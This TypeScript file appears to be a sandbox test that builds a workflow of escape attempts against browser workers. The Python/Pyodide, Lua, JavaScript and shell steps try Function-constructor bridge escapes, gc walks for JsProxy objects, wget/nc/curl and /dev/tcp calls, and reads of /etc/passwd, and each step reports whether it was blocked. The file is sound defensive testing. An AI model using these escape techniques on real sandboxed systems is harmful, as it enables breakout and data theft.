/**
 * Steps that try to get out of a browser worker, each in its own step: Python through
 * Pyodide's JavaScript bridges (js, pyodide_js, pyfetch, run_js, the Function constructor
 * behind any proxy, a gc walk to stray proxies, sockets, urllib), Lua through its stdlib,
 * shell through busybox's network applets, JavaScript through the web APIs QuickJS does
 * not have. Each step reports `blocked` and why, and a
 * last step depends on all of them to show the workers survive.
 */

/** A workflow (as JSON text) whose steps attack `target` (an http:// URL on another origin). */
export function attackWorkflow(target: string): string {
  const port = new URL(target).port;
  const ws = target.replace(/^http/, "ws");
  const py = (body: string) => ({
    language: "python",
    code: [
      "def attack():",
      ...body.split("\n").map((line) => `    ${line}`),
      "",
      "def run():",
      "    try:",
      "        result = attack()",
      "    except Exception as e:",
      "        return {'blocked': True, 'detail': type(e).__name__ + ': ' + str(e)[:300]}",
      "    return {'blocked': bool(result is None), 'detail': repr(result)[:300]}",
      "",
    ].join("\n"),
  });
  const viaFunction = (js: string) =>
    py(
      `from pyodide.ffi import to_js\nF = to_js([]).constructor.constructor\nreturn F(${JSON.stringify(js)})()`,
    );
  const steps: Record<string, unknown> = {
    py_import_js: py(`import js\nreturn js.fetch(${JSON.stringify(target)})`),
    py_pyodide_js: py("import pyodide_js\nreturn pyodide_js.version"),
    py_pyfetch: py(
      `from pyodide.http import pyfetch\nfrom pyodide.ffi import run_sync\nreturn run_sync(pyfetch(${JSON.stringify(target)}))`,
    ),
    // Runs after the step returned, on the worker's event loop: only the canary server can tell.
    py_async_fetch: py(
      `import asyncio\nfrom pyodide.http import pyfetch\nasyncio.ensure_future(pyfetch(${JSON.stringify(target)}))\nreturn None`,
    ),
    py_open_url: py(`from pyodide.http import open_url\nreturn open_url(${JSON.stringify(target)}).read()`),
    py_run_js: py(`from pyodide.code import run_js\nreturn run_js("fetch('${target}')")`),
    py_function_ctor: viaFunction(`return fetch('${target}')`),
    py_dynamic_import: py(`from pyodide.code import run_js\nreturn run_js("import('${target}/x.js')")`),
    py_websocket: viaFunction(`return new WebSocket('${ws}')`),
    py_xhr: viaFunction(
      `const x = new XMLHttpRequest(); x.open('GET', '${target}', false); x.send(); return x.status`,
    ),
    py_import_scripts: viaFunction(`importScripts('${target}/x.js'); return 1`),
    py_post_message: viaFunction(`postMessage({ kind: 'ready' }); return 1`),
    py_document: viaFunction("return document.cookie + localStorage.length"),
    py_socket: py(`import socket\nreturn socket.create_connection(("127.0.0.1", ${port}), timeout=2)`),
    py_urllib: py(
      `import urllib.request\nreturn urllib.request.urlopen(${JSON.stringify(target)}, timeout=2).read()`,
    ),
    py_os_system: py(`import os\nreturn os.system("wget ${target}")`),
    py_gc_walk: py(
      [
        "import gc",
        "for o in gc.get_objects():",
        "    if type(o).__name__.startswith('JsProxy') or 'JsProxy' in type(o).__name__:",
        "        for name in ('fetch', 'postMessage', 'WebSocket', 'importScripts'):",
        "            try:",
        "                f = getattr(o, name)",
        "            except Exception:",
        "                continue",
        "            if f is not None:",
        `                return name + ': ' + repr(f(${JSON.stringify(target)}))`,
        "return None",
      ].join("\n"),
    ),
    py_sys_modules: py(
      [
        "import sys",
        "for m in list(sys.modules.values()):",
        "    for name in ('js', 'globalThis', 'fetch', 'pyodide_js'):",
        "        v = getattr(m, name, None)",
        "        if v is not None and 'JsProxy' in type(v).__name__:",
        "            return getattr(m, '__name__', '?') + '.' + name",
        "return None",
      ].join("\n"),
    ),
    lua_escapes: {
      language: "lua",
      code: `function run()
  local open = {}
  local function try(name, f)
    local ok, err = pcall(f)
    if ok then open[#open + 1] = name end
  end
  try("os.execute", function() return os.execute("wget ${target}") end)
  try("io.open", function() return io.open("/etc/passwd"):read("a") end)
  try("require", function() return require("socket") end)
  try("package", function() return package.loadlib("x", "y") end)
  try("bytecode", function() return load(string.dump(function() end), nil, "b") end)
  try("debug", function() return debug.getregistry() end)
  try("js", function() return js.global end)
  return { blocked = #open == 0, detail = table.concat(open, ",") }
end`,
    },
    js_escapes: {
      language: "javascript",
      code: `async function run() {
  const open = [];
  const tries = {
    fetch: () => fetch("${target}"),
    xhr: () => new XMLHttpRequest(),
    websocket: () => new WebSocket("${ws}"),
    importScripts: () => importScripts("${target}/x.js"),
    functionCtor: () => (function () {}).constructor("return fetch")()("${target}"),
    postMessage: () => postMessage("x"),
    self: () => self.location.href,
  };
  for (const [name, f] of Object.entries(tries)) {
    try { f(); open.push(name); } catch (e) {}
  }
  try { await import("${target}/x.js"); open.push("import"); } catch (e) {}
  return { blocked: open.length === 0, detail: open.join(",") };
}`,
    },
    sh_network: {
      language: "shell",
      code: `for c in "wget -q -O- ${target}" "nc 127.0.0.1 ${port}" "curl ${target}"; do
  $c </dev/null >/dev/null 2>&1 && echo "open: $c"
done
(echo hi > /dev/tcp/127.0.0.1/${port}) 2>/dev/null && echo "open: /dev/tcp"
cat /etc/passwd 2>/dev/null && echo "open: /etc/passwd"
echo '{"blocked": true}'`,
    },
  };
  const attacks = Object.keys(steps);
  steps.after = {
    language: "python",
    depends_on: attacks,
    code: "def run(inputs):\n    return sorted(k for k, v in inputs.items() if not v.get('blocked'))\n",
  };
  return JSON.stringify({ name: "browser-attacks", concurrency: 4, steps }, null, 2);
}
